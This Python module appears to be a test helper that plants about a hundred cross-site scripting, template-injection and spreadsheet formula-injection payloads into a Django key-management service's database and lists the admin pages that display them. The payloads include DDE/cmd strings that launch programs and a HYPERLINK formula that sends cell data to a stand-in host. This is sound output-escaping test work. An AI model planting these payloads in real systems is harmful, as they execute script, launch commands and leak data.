"""A hundred texts that a careless page would run as a script, or a careless spreadsheet as a formula.

`planting_code` is Python for `manage.py shell`: it writes them into every free-text field of a service's database and
prints the addresses of the pages that show the longest ones.
"""

from __future__ import annotations

import base64
import json

_CALL = "alert(1)"
_MARKUP = [
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "</script><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "<script src=//example.invalid/x.js></script>",
    "<img src=x onerror={c}>",
    "<img/src=x/onerror={c}>",
    '<img src=x onerror="{c}">',
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<body onload={c}>",
    "<iframe src=javascript:{c}>",
    "<iframe srcdoc='<script>{c}</script>'>",
    "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c}>click</a>",
    "<form action=javascript:{c}><input type=submit>",
    "<button formaction=javascript:{c}>x</button>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video src=x onerror={c}>",
    "<audio src=x onerror={c}>",
    "<video><source onerror={c}></video>",
    "<marquee onstart={c}>",
    "<math><mtext><script>{c}</script>",
    "<link rel=stylesheet href=//example.invalid>",
    "<meta http-equiv=refresh content=0;url=//example.invalid>",
    "<base href=//example.invalid/>",
    "<style>*{{background:url(//example.invalid)}}</style>",
    "<div style=position:fixed;inset:0>x</div>",
    "<xss onpointerrawupdate={c}>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[><script>{c}</script>]]>",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    '" onmouseover={c} x="',
    "' onfocus={c} autofocus x='",
    "` onmouseover={c} x=`",
    "javascript:{c}",
    "data:text/html,<script>{c}</script>",
    "{{{{ 7*7 }}}}{{% debug %}}",
    "${{{c}}}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "%3Cscript%3E{c}%3C/script%3E",
    '\\";{c};//',
    "';{c};//",
    "</script><!--<script>",
    "]]></script><script>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<a\u2028onclick={c}>\u2029",
    "\u202e<script>{c}</script>",
    "<IMG SRC=`x` onerror={c}>",
]
_FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    '+HYPERLINK("http://example.invalid","x")',
    '-HYPERLINK("http://example.invalid","x")',
    '@HYPERLINK("http://example.invalid","x")',
    ' =HYPERLINK("http://example.invalid","x")',
    '  +HYPERLINK("http://example.invalid","x")',
    '\t=HYPERLINK("http://example.invalid","x")',
    '"=HYPERLINK(""http://example.invalid"")',
    '\'=HYPERLINK("http://example.invalid")',
    '\u00a0=HYPERLINK("http://example.invalid")',
    '\ufeff=HYPERLINK("http://example.invalid")',
    '＝HYPERLINK("http://example.invalid")',
    '＋HYPERLINK("http://example.invalid")',
    '－HYPERLINK("http://example.invalid")',
    '＠HYPERLINK("http://example.invalid")',
    '=IMPORTXML("http://example.invalid","//a")',
    '=IMPORTDATA("http://example.invalid")',
    '=IMAGE("http://example.invalid")',
    '=WEBSERVICE("http://example.invalid")',
    '=DDE("cmd","/C calc","x")',
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@A1",
    '="a"&"b"',
    "={1;2}",
    "=A1:A9",
    "=-1",
    "=+1",
    "=@A1",
    "%0A=1+1",
]
PAYLOADS = [text.format(c=_CALL) for text in _MARKUP] + _FORMULAS

_CODE = """
import base64, datetime as dt, json, uuid
from django.utils import timezone
from keys.models import *
from keys.services.audit import Actor, record
from keys.uuid7 import new_request_uuid, request_id_of
P = json.loads(base64.b64decode("{payloads}"))
now = timezone.now()
def pieces(limit):
    found, text = [], ""
    for p in P:
        if len(text) + len(p) + 1 > limit:
            found.append(text)
            text = ""
        text = (text + " " + p) if text else p[:limit]
    return found + [text]
def nth(texts, n):
    return texts[n % len(texts)]
pages, fields = [], {{limit: pieces(limit) for limit in (200, 300)}}
for n, p in enumerate(P):
    account = Account.objects.create(name=p[:100], organization=nth(fields[200], n))
    key = OpenRouterKey.objects.create(name=p[:100], account=account, secret=b"x", tail="...%04d" % n,
        fingerprint="planted-%d" % n, note="\\n".join(P) if n < 2 else p, label=nth(fields[200], n),
        check_error=nth(fields[300], n), checked_at=now, state="invalid" if n % 2 else "disabled")
    client = Client.objects.create(name=p[:100], digest="planted-%d" % n, prefix="sk-ant-api03-%04d" % n)
    ModelAlias.objects.create(name=p[:200], target=nth(fields[200], n))
    Cooldown.objects.create(key=key, cause="key_rate_limited", detail=nth(fields[300], n), pattern=p[:100],
        started_at=now, until=now + dt.timedelta(hours=1), cleared_at=now if n % 3 else None, cleared_by=p[:150])
    record(Actor(p[:150], ip=p[:45]), "key.added", key, before={{"note": p}}, after={{"note": p, p[:20]: p}})
    row = new_request_uuid()
    log = RequestLog.objects.create(id=row, request_id=request_id_of(row), client=client, key=key, created_at=now,
        recorded_at=now, model_asked=p, model_sent=p, status=500 if n % 2 else 200, error_type=p[:40], attempts=1,
        cost_nano=n, cost_source="reported", generation_id=p[:100], client_ip=p[:45],
        user_agent=nth(fields[300], n), session_id=nth(fields[200], n))
    Attempt.objects.create(request=log, n=1, key=key, status=429, cause="key_rate_limited",
        detail=nth(fields[300], n), duration_ms=1)
    pages.append("/admin/keys/requestlog/%s/change/" % row)
    if n < 3:
        for model, pk in (("openrouterkey", key.pk), ("client", client.pk), ("account", account.pk)):
            pages.append("/admin/keys/%s/%s/change/" % (model, pk))
            pages.append("/admin/keys/%s/%s/history/" % (model, pk))
print(" ".join(pages))
"""


def planting_code() -> str:
    return _CODE.format(payloads=base64.b64encode(json.dumps(PAYLOADS).encode()).decode())
